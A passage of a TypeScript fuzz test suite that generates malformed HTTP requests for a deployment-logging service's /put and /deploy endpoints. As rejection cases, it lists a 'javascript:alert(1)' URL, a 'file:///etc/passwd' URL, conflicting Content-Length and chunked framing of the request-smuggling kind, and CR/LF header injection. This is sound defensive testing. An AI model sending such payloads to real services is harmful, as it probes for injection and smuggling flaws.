  fc.array(fc.string({ maxLength: 8 }), { minLength: 1, maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.string({ maxLength: 6 }), { maxKeys: 3 }),
  fc.integer({ min: 2, max: 300 }).map(nested),
)

/** Empty once trimmed; all of it is Unicode White_Space, so no reading of the SPEC keeps any. */
const blank = fc.constantFrom('', ' ', '   ', '\t', '\n', '\r\n', ' \t\r\n ', '\u00a0', '\u3000', '\u2028')

function tooLong(limit: number): fc.Arbitrary<string> {
  return fc.oneof(
    fc.string({ unit: textCharacter, minLength: limit + 1, maxLength: limit + 20 }),
    fc.integer({ min: limit + 1, max: limit + 3 }).map((n) => '\u{1f680}'.repeat(n)),
    fc.integer({ min: limit + 1, max: 4000 }).map((n) => 'v'.repeat(n)),
  )
}

function badText(limit: number): fc.Arbitrary<unknown> {
  return fc.oneof(
    wrongType,
    blank,
    tooLong(limit),
    fc
      .tuple(storedText(Math.min(limit, 40)), controlCharacter, fc.nat())
      .map(([t, c, at]) => insertAt(t, at, c)),
    fc
      .tuple(storedText(Math.min(limit, 40)), loneSurrogate, fc.nat())
      .map(([t, c, at]) => insertAt(t, at, c)),
  )
}

const BAD_STATUSES = [
  'Deploy',
  'Deployedd',
  'Deployed.',
  'De ployed',
  'Depl\u043eyed', // a Cyrillic o
  'Dep\u200bloyed',
  'Succeeded',
  'success',
  'ok',
  'Deployed!',
  'Deploying...',
  'Fail',
  'Failure',
  '1',
  'true',
  'null',
  'Deploy\u0130ng',
  'DEPLOYED\u0000',
  '\u0000Deployed',
  'Deployed\u0001',
]

const BAD_URLS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'ftp://example.com/build',
  'file:///etc/passwd',
  'data:text/html,<b>x</b>',
  'mailto:ops@example.com',
  '/runs/7',
  'example.com/runs/7',
  'http//missing-colon.example',
  'https://',
  'http://exa mple.com/',
  'not a url',
  'ws://example.com/socket',
  '//example.com/x',
  `https://example.com/${'a'.repeat(2100)}`,
]

const RENAMES: Record<(typeof REQUIRED_SLOTS)[number], string[]> = {
  service: [
    'app',
    'service',
    'App',
    'APP',
    'Service',
    ' app',
    'app ',
    'application',
    'name',
    'serivce',
    'app[]',
  ],
  environment: ['env', 'environment', 'Env', 'ENV', 'Environment', 'environ', ' env', 'stage'],
  version: ['Version', 'VERSION', 'ver', 'v', 'versions', ' version', 'tag'],
  status: ['Status', 'STATUS', 'state', 'result', ' status', 'statuses'],
}

function defectFor(slot: Slot): fc.Arbitrary<Defect> {
  const value = (arb: fc.Arbitrary<unknown>) => arb.map((v): Defect => ({ slot, kind: 'value', value: v }))
  const kinds: Array<fc.Arbitrary<Defect>> = [
    fc.constant<Defect>({ slot, kind: 'missing' }),
    fc.string({ maxLength: 12 }).map((second): Defect => ({ slot, kind: 'repeated', second })),
  ]
  if (slot === 'status') {
    kinds.push(
      value(fc.oneof(fc.constantFrom(...BAD_STATUSES), fc.string({ maxLength: 20 }), storedText(30))),
    )
    kinds.push(value(wrongType), value(blank))
  } else {
    kinds.push(value(badText(LIMITS[slot])), value(badText(LIMITS[slot])))
  }
  if (slot === 'url') kinds.push(value(fc.oneof(fc.constantFrom(...BAD_URLS), fc.string({ maxLength: 30 }))))
  if (slot === 'service' || slot === 'environment' || slot === 'version' || slot === 'status') {
    kinds.push(fc.constantFrom(...RENAMES[slot]).map((name): Defect => ({ slot, kind: 'renamed', name })))
  }
  return fc.oneof(...kinds)
}

const defect: fc.Arbitrary<Defect> = fc
  .oneof(
    { weight: 3, arbitrary: fc.constantFrom(...REQUIRED_SLOTS) },
    { weight: 1, arbitrary: fc.constantFrom(...OPTIONAL_SLOTS) },
  )
  .chain(defectFor)

function applyDefect(entries: Entries, d: Defect, form: Form): Entries {
  const name = fieldName(d.slot, form)
  const current = entries.find(([n]) => n === name)?.[1]
  const others = entries.filter(([n]) => n !== name)
  switch (d.kind) {
    case 'missing':
      return others
    case 'value':
      return [...others, [name, d.value]]
    case 'renamed':
      return [...others, [d.name, current ?? 'x']]
    case 'repeated':
      // Over a query or form this repeats the name; in JSON it is a list, also not a string.
      return [...others, [name, [typeof current === 'string' ? current : 'x', d.second]]]
  }
}

/** Printable ASCII with inner spaces; sometimes exactly at the 200-character limit, which is allowed. */
const idempotencyKey = fc.oneof(
  { weight: 4, arbitrary: fc.stringMatching(/^[!-~](?:[ -~]{0,62}[!-~])?$/) },
  { weight: 1, arbitrary: fc.stringMatching(/^[!-~]{200}$/) },
)

/** Everything valid except, possibly, what a category then breaks. */
interface Base {
  form: Form
  event: ValidEvent
  extras: Entries
  escaping: Escaping
  rotate: number
  credential: Record<string, string>
  idempotencyKey: string | undefined
}

function baseFor(
  forms: readonly Form[],
  credential: fc.Arbitrary<Record<string, string>>,
): fc.Arbitrary<Base> {
  return fc.record({
    form: fc.constantFrom(...forms),
    event: validEvent,
    extras,
    escaping,
    rotate: fc.nat(),
    credential,
    idempotencyKey: fc.option(idempotencyKey, { nil: undefined, freq: 4 }),
  })
}

function headersOf(base: Base): Record<string, string> {
  const headers = { ...base.credential }
  if (base.idempotencyKey !== undefined) headers['Idempotency-Key'] = base.idempotencyKey
  return headers
}

function entriesOf(base: Base): Entries {
  return rotate(withExtras(eventEntries(base.event, base.form), base.extras, base.form), base.rotate)
}

type QueryMutation =
  | { kind: 'duplicate'; slot: Slot; value: string }
  | { kind: 'drop'; index: number }
  | { kind: 'insert'; index: number; at: number; text: string }
  | { kind: 'semicolons' }
  | { kind: 'upper-name'; index: number }
  | { kind: 'empty-value'; index: number }
  | { kind: 'bare-name'; index: number }
  | { kind: 'huge'; index: number; length: number }
  | { kind: 'noise'; text: string }

/** Raw text dropped into a query string: broken and non-UTF-8 escapes, escaped control bytes. */
const QUERY_INSERTS = [
  ...'% %G %2 %% %zz %u00e9 %-1 %FF %C0%AF %ED%A0%80 %E2%82 %80 %F8%88%80%80%80 %C3%28 %FE'.split(' '),
  ...'%00 %01 %0A %0D %09 %1F %7F %1B[31m + %20 %2B = %3D %26 %EF%BB%BF'.split(' '),
]

const queryMutation: fc.Arbitrary<QueryMutation> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('duplicate' as const),
      slot: fc.constantFrom(...SLOTS),
      value: fc.oneof(fc.constant('x'), storedText(12)),
    }),
  },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('drop' as const), index: fc.nat() }) },
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constant('insert' as const),
      index: fc.nat(),
      at: fc.nat(),
      text: fc.constantFrom(...QUERY_INSERTS),
    }),
  },
  { weight: 1, arbitrary: fc.constant({ kind: 'semicolons' as const }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('upper-name' as const), index: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('empty-value' as const), index: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('bare-name' as const), index: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('huge' as const),
      index: fc.nat(),
      length: fc.integer({ min: 100, max: 6000 }),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('noise' as const),
      text: fc.constantFrom('', '&', '&&&', '=', '==', '=x', '&=&'),
    }),
  },
)

function mutateQuery(pairs: string[], m: QueryMutation, form: Form, escaping: Escaping): string[] {
  const pick = (index: number) => (pairs.length === 0 ? -1 : index % pairs.length)
  const replace = (index: number, f: (pair: string) => string) => {
    const i = pick(index)
    return i === -1 ? pairs : pairs.map((p, j) => (j === i ? f(p) : p))
  }
  switch (m.kind) {
    case 'duplicate':
      return [
        ...pairs,
        `${encodeComponent(fieldName(m.slot, form), escaping)}=${encodeComponent(m.value, escaping)}`,
      ]
    case 'drop': {
      const i = pick(m.index)
      return pairs.filter((_, j) => j !== i)
    }
    case 'insert':
      return replace(m.index, (p) => insertAt(p, m.at, m.text))
    case 'semicolons':
      return [pairs.join(';')]
    case 'upper-name':
      return replace(m.index, (p) => {
        const eq = p.indexOf('=')
        return eq === -1 ? p.toUpperCase() : p.slice(0, eq).toUpperCase() + p.slice(eq)
      })
    case 'empty-value':
      return replace(m.index, (p) => `${p.split('=')[0]}=`)
    case 'bare-name':
      return replace(m.index, (p) => p.split('=')[0] ?? p)
    case 'huge':
      return replace(m.index, (p) => p + 'x'.repeat(m.length))
    case 'noise':
      return [...pairs, m.text]
  }
}

type Corruption =
  | { kind: 'truncate'; at: number }
  | { kind: 'insert'; at: number; text: string }
  | { kind: 'delete'; at: number; count: number }
  | { kind: 'replace'; text: string }
  | { kind: 'wrap'; before: string; after: string }
  | { kind: 'single-quotes' }
  | { kind: 'unquoted-keys' }
  | { kind: 'trailing-comma' }
  | { kind: 'bare-value'; token: string }
  | { kind: 'invalid-utf8'; at: number; bytes: number[] }
  | { kind: 'encoding'; encoding: 'latin1' | 'utf16le' | 'utf16be' | 'utf16le-bom' }
  | { kind: 'random-bytes'; bytes: number[] }
  | { kind: 'random-text'; text: string }
  | { kind: 'broken-form'; at: number; text: string }

const INVALID_UTF8 = [
  [0xff],
  [0xfe],
  [0xc0, 0x80], // an overlong NUL
  [0xc1, 0xbf],
  [0x80],
  [0xbf],
  [0xe2, 0x82], // cut short
  [0xed, 0xa0, 0x80], // a surrogate
  [0xf4, 0x90, 0x80, 0x80], // beyond U+10FFFF
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xe0, 0x80, 0x80],
  [0xf0, 0x80, 0x80, 0x80],
]

const corruption: fc.Arbitrary<Corruption> = fc.oneof(
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({
    kind: fc.constant('insert' as const),
    at: fc.nat(),
    text: fc.constantFrom(...'{}[]",:\\\'/*#\u0000\u001f'.split(''), 'NaN', '//', '/*', 'undefined'),
  }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), count: fc.integer({ min: 1, max: 4 }) }),
  fc.record({
    kind: fc.constant('replace' as const),
    text: fc.constantFrom(
      'null',
      'true',
      'false',
      '0',
      '-1',
      '1e999',
      '"text"',
      '[]',
      '[{}]',
      '[{"app":"a"}]',
      'NaN',
      'undefined',
      'Infinity',
      '{',
      '}',
      '{}}',
      '{{}',
      '""',
      "'{}'",
    ),
  }),
  fc.record({
    kind: fc.constant('wrap' as const),
    before: fc.constantFrom('', '[', '"', ")]}'\n", 'while(1);', 'x', '{"event":', '\u0000'),
    after: fc.constantFrom('', ']', '"', 'x', ',', '}', '{}', ' true', '\u0000', ' // c', ' /* c */'),
  }),
  fc.constant({ kind: 'single-quotes' as const }),
  fc.constant({ kind: 'unquoted-keys' as const }),
  fc.constant({ kind: 'trailing-comma' as const }),
  fc.record({
    kind: fc.constant('bare-value' as const),
    token: fc.constantFrom(
      'NaN',
      'Infinity',
      '-Infinity',
      'undefined',
      "'x'",
      '0x10',
      '01',
      '+1',
      '.5',
      'tru',
    ),
  }),
  fc.record({
    kind: fc.constant('invalid-utf8' as const),
    at: fc.nat(),
    bytes: fc.constantFrom(...INVALID_UTF8),
  }),
  fc.record({
    kind: fc.constant('encoding' as const),
    encoding: fc.constantFrom(
      'latin1' as const,
      'utf16le' as const,
      'utf16be' as const,
      'utf16le-bom' as const,
    ),
  }),
  fc.record({
    kind: fc.constant('random-bytes' as const),
    bytes: fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 200 }),
  }),
  fc.record({
    kind: fc.constant('random-text' as const),
    text: fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }),
  }),
  fc.record({
    kind: fc.constant('broken-form' as const),
    at: fc.nat(),
    text: fc.constantFrom(...QUERY_INSERTS.filter((t) => t.startsWith('%'))),
  }),
)

function corruptBody(json: string, formBody: string, c: Corruption): Buffer {
  const utf8 = (text: string) => Buffer.from(text, 'utf8')
  switch (c.kind) {
    case 'truncate':
      return utf8(json.slice(0, c.at % json.length))
    case 'insert':
      return utf8(insertAt(json, c.at, c.text))
    case 'delete': {
      const i = c.at % json.length
      return utf8(json.slice(0, i) + json.slice(i + c.count))
    }
    case 'replace':
      return utf8(c.text)
    case 'wrap':
      return utf8(c.before + json + c.after)
    case 'single-quotes':
      return utf8(json.replaceAll('"', "'"))
    case 'unquoted-keys':
      return utf8(json.replace(/"([A-Za-z_]+)":/g, '$1:'))
    case 'trailing-comma':
      return utf8(json.replace(/\s*}$/, ',}'))
    case 'bare-value':
      return utf8(json.replace(/"version":\s*"(?:[^"\\]|\\.)*"/, `"version":${c.token}`))
    case 'invalid-utf8': {
      const bytes = utf8(json)
      const i = c.at % (bytes.length + 1)
      return Buffer.concat([bytes.subarray(0, i), Buffer.from(c.bytes), bytes.subarray(i)])
    }
    case 'encoding':
      if (c.encoding === 'latin1') return Buffer.from(json, 'latin1')
      if (c.encoding === 'utf16le') return Buffer.from(json, 'utf16le')
      if (c.encoding === 'utf16be') return Buffer.from(json, 'utf16le').swap16()
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, 'utf16le')])
    case 'random-bytes':
      return Buffer.from(c.bytes)
    case 'random-text':
      return utf8(c.text)
    case 'broken-form':
      return utf8(insertAt(formBody, c.at, c.text))
  }
}

/** The request with its credential headers replaced. */
function withCredential(
  req: FuzzRequest,
  credential: Record<string, string>,
  state: FuzzRequest['credential'],
) {
  return {
    ...req,
    headers: { ...withoutHeader(req.headers, 'x-api-key', 'authorization'), ...credential },
    credential: state,
  }
}

/** Not a 201: what every malformed generator must produce. Cases that happen to be valid are redrawn. */
const malformed = (req: FuzzRequest) => expectedAnswer(req).statuses[0] !== 201

export function fuzzArbitraries(keys: Keys) {
  const { liveCredential, badCredential, badKey } = credentialArbitraries(keys)

  /** A valid request of any form, any transport; the body is sometimes padded to exactly 16 KiB. */
  const validRequest: fc.Arbitrary<{ req: FuzzRequest; event: ValidEvent }> = baseFor(FORMS, liveCredential)
    .chain((base) =>
      fc.record({
        base: fc.constant(base),
        transport: transportFor(base.form),
        fill: fc.oneof(
          { weight: 9, arbitrary: fc.constant(false) },
          { weight: 1, arbitrary: fc.constant(true) },
        ),
      }),
    )
    .map(({ base, transport, fill }) => {
      const req = buildRequest({
        kind: 'valid',
        form: base.form,
        entries: entriesOf(base),
        transport,
        escaping: base.escaping,
        headers: headersOf(base),
        credential: 'live',
      })
      return { req: fill ? fillToLimit(req) : req, event: base.event }
    })
    // Long values and many extra fields can add up to more than a body may hold.
    .filter(({ req }) => (req.body?.length ?? 0) <= BODY_LIMIT)

  const fieldDefects: fc.Arbitrary<FuzzRequest> = baseFor(FORMS, liveCredential)
    .chain((base) =>
      fc.record({
        base: fc.constant(base),
        transport: transportFor(base.form),
        defects: fc.array(defect, { minLength: 1, maxLength: 4 }),
      }),
    )
    .map(({ base, transport, defects }) => {
      let entries = entriesOf(base)
      for (const d of defects) entries = applyDefect(entries, d, base.form)
      return buildRequest({
        kind: `fields: ${defects.map((d) => `${d.slot} ${d.kind}`).join(', ')}`,
        form: base.form,
        entries,
        transport,
        escaping: base.escaping,
        headers: headersOf(base),
        credential: 'live',
      })
    })
    .filter(malformed)

  const bodyDefects: fc.Arbitrary<FuzzRequest> = fc
    .record({
      base: baseFor(['put-post', 'deploy'], liveCredential),
      corruption,
      indent: fc.boolean(),
      putType: putContentType,
      deployType: fc.oneof(
        { weight: 5, arbitrary: deployContentType },
        { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_CONTENT_TYPES) },
      ),
    })
    .map(({ base, corruption: c, indent, putType, deployType }) => {
      const entries = entriesOf(base)
      const body = corruptBody(jsonText(entries, indent), formPairs(entries, base.escaping).join('&'), c)
      const headers = headersOf(base)
      const contentType =
        c.kind === 'broken-form' ? FORM_CONTENT_TYPES[0] : base.form === 'deploy' ? deployType : putType
      if (contentType !== undefined) headers['content-type'] = contentType
      const path = base.form === 'deploy' ? '/deploy' : '/put'
      return {
        kind: `body: ${c.kind}`,
        form: base.form,
        method: 'POST',
        path,
        query: '',
        headers,
        body,
        credential: 'live',
      } satisfies FuzzRequest
    })
    .filter(malformed)

  const queryDefects: fc.Arbitrary<FuzzRequest> = fc
    .record({
      base: baseFor(['put-get', 'put-post'], liveCredential),
      mutations: fc.array(queryMutation, { minLength: 1, maxLength: 3 }),
    })
    .map(({ base, mutations }) => {
      let pairs = formPairs(entriesOf(base), base.escaping)
      for (const m of mutations) pairs = mutateQuery(pairs, m, base.form, base.escaping)
      // POST /put with an empty body reads the query string like GET /put.
      return {
        kind: `query: ${mutations.map((m) => m.kind).join(', ')}`,
        form: base.form,
        method: base.form === 'put-get' ? 'GET' : 'POST',
        path: '/put',
        query: pairs.join('&'),
        headers: headersOf(base),
        body: null,
        credential: 'live',
      } satisfies FuzzRequest
    })
    .filter(malformed)

  const sizeDefects: fc.Arbitrary<FuzzRequest> = fc
    .record({
      base: baseFor(['put-post', 'deploy'], liveCredential),
      size: fc.oneof(fc.constant(BODY_LIMIT + 1), fc.integer({ min: BODY_LIMIT + 1, max: 3 * BODY_LIMIT })),
      shape: fc.constantFrom('padded json', 'long description', 'junk', 'form'),
      putType: putContentType,
      deployType: deployContentType,
    })
    .map(({ base, size, shape, putType, deployType }) => {
      let entries = entriesOf(base)
      if (shape === 'long description')
        entries = applyDefect(
          entries,
          { slot: 'description', kind: 'value', value: 'd'.repeat(size) },
          base.form,
        )
      let text: string
      if (shape === 'junk') text = 'x'.repeat(size)
      else if (shape === 'form') text = `${formPairs(entries, base.escaping).join('&')}&_=`
      else text = jsonText(entries, false)
      const bytes = Buffer.byteLength(text)
      // Pad to exactly `size` bytes where padding changes nothing: JSON white space, a form value.
      if (bytes < size)
        text =
          shape === 'form' ? text + 'x'.repeat(size - bytes) : `{${' '.repeat(size - bytes)}${text.slice(1)}`
      const headers = headersOf(base)
      const contentType =
        shape === 'form' ? FORM_CONTENT_TYPES[0] : base.form === 'deploy' ? deployType : putType
      if (contentType !== undefined) headers['content-type'] = contentType
      return {
        kind: `size: ${shape}`,
        form: base.form,
        method: 'POST',
        path: base.form === 'deploy' ? '/deploy' : '/put',
        query: '',
        headers,
        body: Buffer.from(text, 'utf8'),
        credential: 'live',
      } satisfies FuzzRequest
    })

  /** Any request at all, which a bad credential must then turn into a 401. */
  const anyRequest = fc.oneof(
    validRequest.map(({ req }) => req),
    fieldDefects,
    bodyDefects,
    queryDefects,
    sizeDefects,
  )

  const credentialDefects: fc.Arbitrary<FuzzRequest> = fc
    .record({ req: anyRequest, credential: badCredential, keyInQuery: fc.boolean() })
    .map(({ req, credential, keyInQuery }) => {
      const bad = withCredential(req, credential, 'bad')
      // The key is read from headers only: in the query string it authenticates nothing.
      const query = keyInQuery
        ? [req.query, `api_key=${keys.live}&key=${keys.live}`].filter((q) => q !== '').join('&')
        : req.query
      return { ...bad, kind: `credential (${req.kind})`, query }
    })

  const idempotencyDefects: fc.Arbitrary<FuzzRequest> = fc
    .record({
      req: fc.oneof(
        { weight: 3, arbitrary: validRequest.map(({ req }) => req) },
        { weight: 1, arbitrary: fieldDefects },
      ),
      name: fc.mixedCase(fc.constant('idempotency-key')),
      value: fc.oneof(
        fc.constantFrom('', ' ', '   ', '\t', ' \t '),
        fc.integer({ min: IDEMPOTENCY_KEY_MAX + 1, max: 2000 }).map((n) => 'k'.repeat(n)),
        fc.string({
          unit: 'grapheme-ascii',
          minLength: IDEMPOTENCY_KEY_MAX + 1,
          maxLength: IDEMPOTENCY_KEY_MAX + 60,
        }),
      ),
    })
    .map(({ req, name, value }) => ({
      ...req,
      kind: `idempotency key of ${value.length} characters (${req.kind})`,
      headers: { ...withoutHeader(req.headers, 'idempotency-key'), [name]: value },
    }))
    .filter(malformed)

  const methodDefects: fc.Arbitrary<FuzzRequest> = fc
    .record({
      req: fc.oneof(
        validRequest.map(({ req }) => req),
        bodyDefects,
        sizeDefects,
        credentialDefects,
      ),
      path: fc.constantFrom('/put' as const, '/deploy' as const),
      method: fc.constantFrom<Method>('PUT', 'PATCH', 'DELETE', 'GET'),
      contentType: fc.option(
        fc.constantFrom('application/json', 'garbage', 'text/plain', 'application/xml'),
        { nil: undefined },
      ),
    })
    .filter(({ path, method }) => !allowedMethods(path).includes(method))
    .map(({ req, path, method, contentType }) => {
      const headers =
        contentType === undefined
          ? req.headers
          : { ...withoutHeader(req.headers, 'content-type'), 'content-type': contentType }
      // A GET carries no body here: that is for GET /put, and Fastify ignores one anyway.
      return {
        ...req,
        kind: `method ${method} ${path} (${req.kind})`,
        method,
        path,
        headers,
        body: method === 'GET' ? null : req.body,
      }
    })
    .filter(malformed)

  /** POST /put with a Content-Type that is not `type/subtype`: the SPEC says it must still work. */
  const putWithMalformedContentType: fc.Arbitrary<FuzzRequest> = fc
    .record({
      req: validRequest.map(({ req }) => req),
      contentType: fc.constantFrom(...MALFORMED_CONTENT_TYPES),
    })
    // JSON bodies only: form fields are only form fields under the form-encoded label.
    .filter(({ req }) => req.form === 'put-post' && req.body?.toString('latin1').startsWith('{') === true)
    .map(({ req, contentType }) => ({
      ...req,
      kind: `POST /put labelled ${JSON.stringify(contentType)}`,
      headers: { ...withoutHeader(req.headers, 'content-type'), 'Content-Type': contentType },
    }))

  return {
    validRequest,
    fieldDefects,
    bodyDefects,
    queryDefects,
    sizeDefects,
    credentialDefects,
    idempotencyDefects,
    methodDefects,
    putWithMalformedContentType,
    liveCredential,
    badKey,
  }
}

/** Pads a body to exactly BODY_LIMIT bytes without changing what it says (the edge is allowed). */
function fillToLimit(req: FuzzRequest): FuzzRequest {
  if (req.body === null) return req
  const text = req.body.toString('utf8')
  const missing = BODY_LIMIT - req.body.length
  if (missing <= 0) return req
  const form =
    mediaTypeOf(headerValue(req, 'content-type') ?? '') === 'application/x-www-form-urlencoded' &&
    !text.startsWith('{')
  const filled = form
    ? `${text}&_=${'x'.repeat(Math.max(0, missing - 3))}`
    : `{${' '.repeat(missing)}${text.slice(1)}`
  return { ...req, kind: `${req.kind}, filled to ${BODY_LIMIT} bytes`, body: Buffer.from(filled, 'utf8') }
}

// ---------------------------------------------------------------------------------------------
// Over a socket: the same requests byte for byte, and what only raw HTTP can say.
// ---------------------------------------------------------------------------------------------

/** One request as bytes, with the answer it must get. */
export interface RawCase {
  kind: string
  bytes: Buffer
  expected: Expected
  /**
   * True when the bytes are not valid HTTP/1.1, so Node's parser refuses them before Shiplog sees
   * a request (and answers in its own format, not problem+json).
   */
  framing: boolean
  /** The request the bytes carry, when they carry one Shiplog reads. */
  request: FuzzRequest | null
}

interface RawParts {
  requestLine: string
  headers: Array<[string, string]>
  body: Buffer | null
}

function rawParts(req: FuzzRequest): RawParts {
  return {
    requestLine: `${req.method} ${req.path}${req.query === '' ? '' : `?${req.query}`} HTTP/1.1`,
    headers: [['Host', '127.0.0.1'], ['Connection', 'close'], ...Object.entries(req.headers)],
    body: req.body,
  }
}

function chunked(body: Buffer, sizes: number[]): Buffer {
  const parts: Buffer[] = []
  for (let at = 0, i = 0; at < body.length; i++) {
    const size = Math.min(sizes[i % sizes.length] ?? 1, body.length - at)
    parts.push(Buffer.from(`${size.toString(16)}\r\n`), body.subarray(at, at + size), Buffer.from('\r\n'))
    at += size
  }
  parts.push(Buffer.from('0\r\n\r\n'))
  return Buffer.concat(parts)
}

/** Header text is Latin-1 on the wire: a string character is one byte. */
function assemble(parts: RawParts, chunks: number[] | null): Buffer {
  const headers = [...parts.headers]
  let body: Buffer = Buffer.alloc(0)
  if (parts.body !== null) {
    if (chunks === null) {
      headers.push(['Content-Length', String(parts.body.length)])
      body = parts.body
    } else {
      headers.push(['Transfer-Encoding', 'chunked'])
      body = chunked(parts.body, chunks)
    }
  }
  const head = `${[parts.requestLine, ...headers.map(([n, v]) => `${n}: ${v}`)].join('\r\n')}\r\n\r\n`
  return Buffer.concat([Buffer.from(head, 'latin1'), body])
}

/**
 * Small enough for one socket write: Node refuses a head over 16 KiB (431), and a large body the
 * server answers before reading could be cut off by a reset. Inject covers large requests.
 */
function fitsOneWrite(req: FuzzRequest): boolean {
  const head =
    req.query.length + Object.entries(req.headers).reduce((n, [k, v]) => n + k.length + v.length + 4, 0)
  return head <= 12 * 1024 && (req.body?.length ?? 0) <= 8 * 1024
}

const BENIGN_HEADERS: Array<[string, string]> = [
  ['User-Agent', 'curl/8.5.0'],
  ['Accept', '*/*'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['X-Forwarded-For', '10.0.0.1, 203.0.113.7'],
  ['X-Request-Id', 'abc-123'],
  ['Cache-Control', 'no-cache'],
  ['Cookie', 'session=nothing'],
  ['Via', '1.1 proxy'],
  ['X-Empty', ''],
  ['Referer', 'https://ci.example.com/'],
]

/** How a request goes on the wire: by Content-Length or in chunks, with unrelated headers. */
export interface Rendering {
  chunks: number[] | null
  extra: Array<[string, string]>
}

export function renderRaw(req: FuzzRequest, how: Rendering): Buffer {
  const parts = rawParts(req)
  return assemble({ ...parts, headers: [...parts.headers, ...how.extra] }, how.chunks)
}

const rendering: fc.Arbitrary<Rendering> = fc.record({
  chunks: fc.option(fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 6 }), { nil: null }),
  extra: fc.subarray(BENIGN_HEADERS, { maxLength: 3 }),
})

/** Header bytes 0x80–0xFF: obs-text, which HTTP allows in a value and no UTF-8 decoder accepts. */
const highBytes = fc
  .string({
    unit: fc.integer({ min: 0x80, max: 0xff }).map((c) => String.fromCharCode(c)),
    minLength: 1,
    maxLength: 40,
  })
  .chain((high) =>
    fc
      .tuple(fc.string({ maxLength: 10 }), fc.constant(high))
      .map(([ascii, h]) => ascii.replace(/[^!-~]/g, 'a') + h),
  )

type Breaker =
  | { kind: 'obs-fold' }
  | { kind: 'byte-in-value'; byte: number; at: number }
  | { kind: 'space-before-colon' }
  | { kind: 'bad-name'; character: string }
  | { kind: 'two-lengths'; same: boolean }
  | { kind: 'length-and-chunked' }
  | { kind: 'bad-chunk-size'; size: string }
  | { kind: 'byte-in-target'; byte: number; at: number }
  | { kind: 'method'; method: string }
  | { kind: 'version'; version: string }
  | { kind: 'no-host' }
  | { kind: 'huge-header'; length: number }

const breaker: fc.Arbitrary<Breaker> = fc.oneof(
  fc.constant({ kind: 'obs-fold' as const }),
  fc.record({
    kind: fc.constant('byte-in-value' as const),
    byte: fc.constantFrom(0x00, 0x0d, 0x0a, 0x01, 0x7f),
    at: fc.nat(),
  }),
  fc.constant({ kind: 'space-before-colon' as const }),
  fc.record({
    kind: fc.constant('bad-name' as const),
    character: fc.constantFrom(' ', '(', '@', '"', '/', '\u00e9', '['),
  }),
  fc.record({ kind: fc.constant('two-lengths' as const), same: fc.boolean() }),
  fc.constant({ kind: 'length-and-chunked' as const }),
  fc.record({
    kind: fc.constant('bad-chunk-size' as const),
    size: fc.constantFrom('zz', '-1', 'ffffffffffffffffffff', '', '0x10', ' 5'),
  }),
  fc.record({
    kind: fc.constant('byte-in-target' as const),
    byte: fc.constantFrom(0x00, 0x01, 0x0b, 0x7f, 0x80, 0xff, 0x20),
    at: fc.nat(),
  }),
  fc.record({
    kind: fc.constant('method' as const),
    method: fc.constantFrom('get', 'post', 'Post', 'BREW', 'G ET', 'POST\u0000'),
  }),
  fc.record({
    kind: fc.constant('version' as const),
    version: fc.constantFrom('HTTP/1.2', 'HTTP/9.9', 'HTTP/1.1x', 'HTTPS/1.1', 'http/1.1', 'HTTP/1'),
  }),
  fc.constant({ kind: 'no-host' as const }),
  fc.record({
    kind: fc.constant('huge-header' as const),
    length: fc.integer({ min: 17 * 1024, max: 40 * 1024 }),
  }),
)

/** The request with its HTTP framing broken; requests without a body get `{}` where one is needed. */
function breakFraming(req: FuzzRequest, b: Breaker): Buffer {
  const parts = rawParts(req)
  const bodyOrEmpty = req.body ?? Buffer.from('{}')
  const withBody = (): RawParts => ({ ...parts, body: bodyOrEmpty })
  const head = (p: RawParts, extraLines: string[], body: Buffer) =>
    Buffer.concat([
      Buffer.from(
        `${[p.requestLine, ...p.headers.map(([n, v]) => `${n}: ${v}`), ...extraLines].join('\r\n')}\r\n\r\n`,
        'latin1',
      ),
      body,
    ])
  switch (b.kind) {
    case 'obs-fold':
      return assemble({ ...parts, headers: [...parts.headers, ['X-Note', 'first\r\n second']] }, null)
    case 'byte-in-value': {
      const headers = parts.headers.map(([n, v], i): [string, string] =>
        i === parts.headers.length - 1 ? [n, insertAt(v, b.at, String.fromCharCode(b.byte))] : [n, v],
      )
      // Inserted into the last header the request sends, usually its credential.
      return assemble({ ...parts, headers }, null)
    }
    case 'space-before-colon':
      return assemble({ ...parts, headers: [...parts.headers, ['X-Note ', 'x']] }, null)
    case 'bad-name':
      return assemble({ ...parts, headers: [...parts.headers, [`X-No${b.character}te`, 'x']] }, null)
    case 'two-lengths': {
      const body = bodyOrEmpty
      return head(
        withBody(),
        [`Content-Length: ${body.length}`, `Content-Length: ${b.same ? body.length : body.length + 1}`],
        body,
      )
    }
    case 'length-and-chunked': {
      const body = chunked(bodyOrEmpty, [16])
      return head(withBody(), [`Content-Length: ${body.length}`, 'Transfer-Encoding: chunked'], body)
    }
    case 'bad-chunk-size': {
      const body = Buffer.concat([Buffer.from(`${b.size}\r\n`), bodyOrEmpty, Buffer.from('\r\n0\r\n\r\n')])
      return head(withBody(), ['Transfer-Encoding: chunked'], body)
    }
    case 'byte-in-target': {
      const [method, target = '', version] = parts.requestLine.split(' ')
      // After the leading slash and before the last character: a space at the very end would only
      // double the one before HTTP/1.1, which RFC 9112 §3 lets a server accept, and Node does.
      const inner = target.slice(1, -1)
      const broken = `/${insertAt(inner, b.at, String.fromCharCode(b.byte))}${target.slice(-1)}`
      return assemble({ ...parts, requestLine: `${method} ${broken} ${version}` }, null)
    }
    case 'method':
